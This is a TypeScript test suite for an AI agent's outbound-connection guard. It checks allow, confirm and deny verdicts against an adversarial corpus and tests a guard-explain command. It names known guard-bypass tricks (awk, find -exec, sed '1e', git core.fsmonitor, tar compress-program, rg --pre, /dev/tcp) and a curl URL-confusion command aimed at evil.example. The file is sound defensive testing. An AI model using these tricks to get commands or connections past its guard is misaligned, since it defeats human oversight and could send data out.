import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { classify, decide, type OutboundPolicy } from '../../../runtime/agent/src/guard';
import { explain } from '../../../scripts/guard-explain';
import { REPO } from './helpers';

/** The connections of the agent the corpus is judged for. */
const CONNECTION_HOSTS = ['allowed.example', '*.bank.example', 'bücher.example'];
const POLICIES: OutboundPolicy[] = ['allow', 'confirm', 'deny'];
const LETTER = { A: 'allow', C: 'confirm', D: 'deny' } as const;

interface Case {
  readonly line: number;
  readonly expected: string[];
  readonly tool: string;
  readonly input: unknown;
  readonly reason?: string;
}

function loadCorpus(): Case[] {
  const text = readFileSync(path.join(__dirname, 'fixtures', 'guard-corpus.txt'), 'utf8');
  return text.split('\n').flatMap((raw, i) => {
    if (raw.trim() === '' || raw.startsWith('#')) return [];
    const [verdicts, tool, input, reason] = raw.split('\t');
    const letters = verdicts.split(' ');
    if (letters.length !== 3 || !letters.every((l) => l in LETTER) || !tool || input === undefined) {
      throw new Error(`guard-corpus.txt line ${i + 1}: expected "V V V<tab>tool<tab>input[<tab>reason]"`);
    }
    const parsed = input.startsWith('{"')
      ? JSON.parse(input)
      : tool === 'Bash'
        ? { command: input.startsWith('"') ? JSON.parse(input) : input }
        : JSON.parse(input);
    return [
      {
        line: i + 1,
        expected: letters.map((l) => LETTER[l as keyof typeof LETTER]),
        tool,
        input: parsed,
        ...(reason ? { reason } : {}),
      },
    ];
  });
}

const corpus = loadCorpus();

describe('adversarial corpus (test/runtime/agent/fixtures/guard-corpus.txt)', () => {
  it('has at least 60 cases, each bypass the review found among them', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(60);
    const commands = corpus.map((c) => JSON.stringify(c.input));
    for (const bypass of [
      'awk ',
      '-exec',
      "sed -n '1e",
      'git commit',
      'core.fsmonitor',
      'tar --use-compress-program',
      '--compress-program',
      'rg --pre',
      '/dev/tcp/$h',
      '\\"https://allowed.example\\"@evil.example',
    ]) {
      expect(
        commands.some((c) => c.includes(bypass)),
        bypass,
      ).toBe(true);
    }
  });

  it.each(corpus.map((c) => [c.line, c.tool, JSON.stringify(c.input).slice(0, 90), c] as const))(
    'line %i: %s %s',
    (_line, _tool, _shown, c) => {
      const classification = classify({ tool: c.tool, input: c.input });
      const actual = POLICIES.map((policy) => decide(policy, classification, CONNECTION_HOSTS).action);
      const reason = decide('confirm', classification, CONNECTION_HOSTS).reason;
      expect(actual, reason).toEqual(c.expected);
      if (c.reason) expect(reason).toContain(c.reason);
    },
  );
});

describe('npm run guard:explain', () => {
  const hosts = CONNECTION_HOSTS.join(',');
  it('prints, for every corpus line and policy, the verdict and reason the guard decides', () => {
    for (const c of corpus) {
      for (const policy of POLICIES) {
        const verdict = decide(policy, classify({ tool: c.tool, input: c.input }), CONNECTION_HOSTS);
        expect(explain(['--policy', policy, '--hosts', hosts, '--', c.tool, JSON.stringify(c.input)])).toEqual({
          line: `${verdict.action} ${verdict.reason}`,
          code: 0,
        });
      }
    }
  });

  it('as a real command: one line per verdict on stdout, one line per usage error on stderr with exit code 2', () => {
    const run = (...args: string[]) =>
      spawnSync('npm', ['run', '-s', 'guard:explain', '--', ...args], { cwd: REPO, encoding: 'utf8' });
    const quoted = run(
      '--policy',
      'allow',
      '--hosts',
      'allowed.example',
      '--',
      'Bash',
      JSON.stringify({ command: 'curl "https://allowed.example"@evil.example/' }),
    );
    expect([quoted.status, quoted.stdout, quoted.stderr]).toEqual([
      0,
      "deny host evil.example is not in this agent's connections\n",
      '',
    ]);
    const local = run('--policy', 'deny', '--hosts', '', '--', 'Bash', '{"command":"ls -la | wc -l"}');
    expect(local.stdout).toBe('allow local: every command in it stays on this machine\n');
    const bad = run('--policy', 'sometimes', '--', 'Bash', '{}');
    expect(bad.status).toBe(2);
    expect(bad.stdout).toBe('');
    expect(bad.stderr.trim().split('\n')).toEqual([
      expect.stringMatching(/^guard:explain: --policy must be allow, confirm or deny; usage: /),
    ]);
    expect(run('--policy', 'allow', '--', 'Bash', 'not json').stderr).toMatch(
      /^guard:explain: the tool input is not JSON/,
    );
  });
});
